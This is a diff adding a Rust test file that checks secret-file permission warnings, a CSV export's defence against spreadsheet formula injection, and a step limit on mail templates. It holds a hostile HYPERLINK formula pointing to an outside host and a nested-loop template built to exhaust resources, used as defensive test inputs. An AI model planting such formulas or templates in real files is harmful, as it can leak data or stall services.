@@ -1,0 +1,105 @@
+//! Files that hold what is nobody else's: their modes, and what a spreadsheet makes of them; and templates that hardly end.
+
+use std::fs::Permissions;
+use std::os::unix::fs::PermissionsExt;
+use std::time::{Duration, Instant};
+
+use serde_json::json;
+
+use crate::mailer::section;
+use crate::process::{Process, Run, ends, ready, says};
+use crate::world::{Plan, World};
+
+/// A secret in a file of this mode for each key that a worker takes from one.
+fn with_files(world: &World, arguments: &[&str], mode: u32) -> Run {
+    let url = format!("url = {:?}\n", world.amqp_url);
+    let secret = "client_secret = \"demo-secret\"\n";
+    let (files, paths) = testkit::process::Configured::files(world);
+    let mut run = Run::new(arguments);
+    for path in paths {
+        let text = std::fs::read_to_string(path).unwrap();
+        assert!(text.contains(&url) || text.contains(secret) || text.contains("[wire]"), "{text}");
+        let text = text.replace(&url, "url_file = \"url\"\n").replace(secret, "client_secret_file = \"client\"\n");
+        run = run.config(&text);
+    }
+    drop(files);
+    run = run.config("[http]\ntoken_file = \"token\"\n[mailer.smtp]\nuser = \"u\"\npassword_file = \"login\"\n");
+    for (name, text) in [
+        ("url", world.amqp_url.as_str()),
+        ("client", "demo-secret"),
+        ("token", "0123456789abcdef0123456789ABCDEF"),
+        ("login", "x"),
+    ] {
+        let path = run.file(name, text);
+        std::fs::set_permissions(path, Permissions::from_mode(mode)).unwrap();
+    }
+    run
+}
+
+const KEYS: [&str; 4] =
+    ["amqp.url_file", "orgs.main.client_secret_file", "http.token_file", "mailer.smtp.password_file"];
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn every_secret_file_that_others_can_read_is_warned_of_at_the_start_and_by_check() {
+    let world = Plan::new().prepare().await;
+    for (mode, warned) in [(0o640, true), (0o604, true), (0o600, false), (0o400, false)] {
+        let mut worker: Process = with_files(&world, &["--log", "json", "worker"], mode).start();
+        ready(&worker.http().await).await;
+        assert_eq!(worker.terminated().await.0, 0);
+        let log = worker.stderr();
+        for key in KEYS {
+            let said = format!("{key}: others on this machine can read this secret");
+            assert_eq!(log.contains(&said), warned, "{key} {mode:o}: {log}");
+        }
+        let (_, out, _) = with_files(&world, &["check"], mode).end().await;
+        for key in KEYS {
+            let is_warned =
+                out.lines().any(|line| line.starts_with("warn") && line.contains("secret file") && line.contains(key));
+            assert_eq!(is_warned, warned, "{key} {mode:o}: {out}");
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_file_of_those_that_failed_is_private_has_no_formula_and_is_read_as_it_was() {
+    let mut world = Plan::new().start().await;
+    let refuses = json!({"status": 400, "always": true, "user": "refused"});
+    world.main().add_fault(serde_json::from_value(refuses).unwrap());
+    let title = "=HYPERLINK(\"http://elsewhere/\"&A1)";
+    let run = Run::of(&world, &["enqueue", "agents.csv", "--batch", "one", "--wait", "--failed", "failed.csv"]);
+    let csv = "userId,email,title,department\nrefused,@refused@example.com,\"=HYPERLINK(\"\"http://elsewhere/\"\"&A1)\",'+49 quoted\n";
+    run.file("agents.csv", &csv.replace("@refused@", "refused@"));
+    let failed = run.file("failed.csv", "what stood there before");
+    std::fs::set_permissions(&failed, Permissions::from_mode(0o666)).unwrap();
+    let mut process = run.start();
+    assert_eq!(process.ended().await, 1, "{}", process.stderr());
+    let written = std::fs::read_to_string(&failed).unwrap();
+    assert_eq!(std::fs::metadata(&failed).unwrap().permissions().mode() & 0o777, 0o600);
+    let mut rows = csv::Reader::from_reader(written.as_bytes());
+    let row = rows.records().next().unwrap().unwrap();
+    assert_eq!((&row[0], &row[2], &row[3]), ("refused", format!("'{title}").as_str(), "'+49 quoted"), "{written}");
+
+    world.stop_worker().await.unwrap();
+    let again = Run::of(&world, &["enqueue", "again.csv", "--batch", "two"]);
+    again.file("again.csv", &written);
+    let (code, _, said) = again.end().await;
+    assert_eq!(code, 0, "{said}");
+    let sent = world.drained("resets.main.bulk").await;
+    assert_eq!(sent.len(), 1);
+    assert_eq!(sent[0].json()["attributes"], json!({"title": title, "department": "+49 quoted"}));
+}
+
+#[tokio::test]
+async fn a_template_that_hardly_ends_ends_the_preview_with_its_name() {
+    let began = Instant::now();
+    let run =
+        Run::new(&["mailer", "--preview", "samples"]).config(&section(25)).config("[mailer]\ntemplates = \"mails\"\n");
+    let folder = run.file("x", "").with_file_name("mails");
+    std::fs::create_dir(&folder).unwrap();
+    std::fs::write(folder.join("subject.txt"), "Hello").unwrap();
+    let body = "{% for a in range(90000) %}{% for b in range(90000) %}{% for c in range(90000) %}{% endfor %}{% endfor %}{% endfor %}{{ password }}";
+    std::fs::write(folder.join("body.txt"), body).unwrap();
+    let said = ends(run, 2, &["body.txt", "steps"]).await;
+    says(&said, &["it takes more than 100000 steps"]);
+    assert!(began.elapsed() < Duration::from_secs(30), "{:?}", began.elapsed());
+}
